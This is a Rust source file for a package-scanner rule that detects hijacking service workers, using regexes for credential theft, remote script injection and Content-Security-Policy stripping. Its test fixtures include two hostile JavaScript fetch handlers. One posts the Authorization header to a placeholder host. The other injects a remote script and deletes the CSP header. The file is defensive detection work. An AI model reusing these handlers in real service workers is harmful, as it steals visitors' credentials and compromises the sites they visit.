//! Rule `service-worker-hijack`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files, is_doc_path};

crate::declare_rule! {
    /// A service worker that turns against the site it serves. Its `fetch` handler sits between
    /// every visitor and the site, and keeps doing so after the package is gone: it sends the
    /// requests' credentials (`Authorization`, `Cookie`, API-key headers) to an address written
    /// in the code, puts a remote `<script src>` into the HTML it returns, or strips the
    /// responses' `Content-Security-Policy`. `critical` for the credentials, or for an injection
    /// together with the CSP strip; `high` for one of the two. Caching workers (Workbox and
    /// hand-written ones) read and store responses and never do any of these.
    id: "service-worker-hijack",
    category: Network,
    severity: High,
    capability: Some(crate::model::Capability::Network),
    title: "service worker that injects into or spies on the site",
    incident: "polyfill.io (Jun 2024) injected scripts into 100,000 sites; service-worker persistence of Magecart-style injections (2024-2025)",
    case_file: "sw.js",
    flag: ["self.addEventListener('fetch', (e) => { const a = e.request.headers.get('authorization'); if (a) fetch('https://c.example.net/k', { method: 'POST', mode: 'no-cors', body: a }); });",
           "self.addEventListener('fetch', (event) => { event.respondWith(fetch(event.request).then(async (r) => { const h = new Headers(r.headers); h.delete('content-security-policy'); const t = (await r.text()).replace('</body>', '<script src=\"https://cdn.example.net/x.js\"></script></body>'); return new Response(t, { headers: h }); })); });"],
    pass: ["self.addEventListener('fetch', (e) => { e.respondWith(caches.match(e.request).then((r) => r || fetch(e.request))); });",
           "self.addEventListener('fetch', (e) => { const h = e.request.headers.get('authorization'); e.respondWith(fetch(e.request, { headers: { authorization: h } })); });",
           "// docs: a worker must never delete('content-security-policy') or add <script src=\"https://…\">\nself.addEventListener('install', () => self.skipWaiting());"],
}

/// How far apart (in bytes) the credential read and its send may be: one handler.
const HANDLER_WINDOW: usize = 800;

fn check(pkg: &Package, out: &mut Emitter) {
    let handler =
        crate::regex!(r#"addEventListener\(\s*['"`]fetch['"`]|\bonfetch\s*=|\.respondWith\("#);
    let creds = crate::regex!(
        r#"(?i)headers\.get\(\s*['"`](authorization|cookie|x-api-key|x-auth-token|proxy-authorization)['"`]"#
    );
    // The HTML edited at its head or body tag, and a remote script tag in the file (written
    // there or kept in a constant).
    let at_tag = crate::regex!(
        r#"(?i)\.replace\(\s*(['"`]</?(head|body)>['"`]|/<\\{0,2}/?(head|body)>/\w*)\s*,"#
    );
    let remote_script = crate::regex!(r#"(?i)<script[^>]{0,200}\bsrc\s*=\s*\\?['"]?(https?:)?//"#);
    let csp = crate::regex!(r#"(?i)\.delete\(\s*['"`]content-security-policy(-report-only)?['"`]"#);
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let Some(js) = &f.js else { continue };
        let text = f.text.as_str();
        if !crate::mentions!(text, ["fetch", "respondWith"]) {
            continue;
        }
        let Some(h) = handler.find(text) else {
            continue;
        };
        // Credentials sent to a fixed address from the handler.
        let sends: Vec<u32> = js
            .calls
            .iter()
            .filter(|c| {
                matches!(c.path.as_str(), "fetch" | "navigator.sendBeacon")
                    && c.arg_lit(0).is_some_and(|u| {
                        let u = u.to_ascii_lowercase();
                        u.starts_with("https://") || u.starts_with("http://")
                    })
            })
            .map(|c| c.off)
            .collect();
        let stolen = creds.find_iter(text).find(|m| {
            let at = m.start() as u32;
            sends
                .iter()
                .any(|&s| s >= at && ((s - at) as usize) < HANDLER_WINDOW)
        });
        // The edit inside the handler, not a build tool's own HTML edit elsewhere in the file.
        let injected = at_tag
            .find_iter(text)
            .find(|m| m.start() >= h.start())
            .filter(|_| remote_script.is_match(text));
        let stripped = csp.find(text);
        let (sev, off, what) = match (stolen, injected, stripped) {
            (Some(m), _, _) => (
                Severity::Critical,
                m.start(),
                "sends the credentials of the requests it sees to a fixed address",
            ),
            (None, Some(m), Some(_)) => (
                Severity::Critical,
                m.start(),
                "puts a remote script into every page and strips their Content-Security-Policy",
            ),
            (None, Some(m), None) => (
                Severity::High,
                m.start(),
                "puts a remote script into the pages it returns",
            ),
            (None, None, Some(m)) => (
                Severity::High,
                m.start(),
                "strips the Content-Security-Policy of the pages it returns",
            ),
            (None, None, None) => continue,
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            off as u32,
            format!("a service worker's fetch handler {what}"),
        );
    }
}
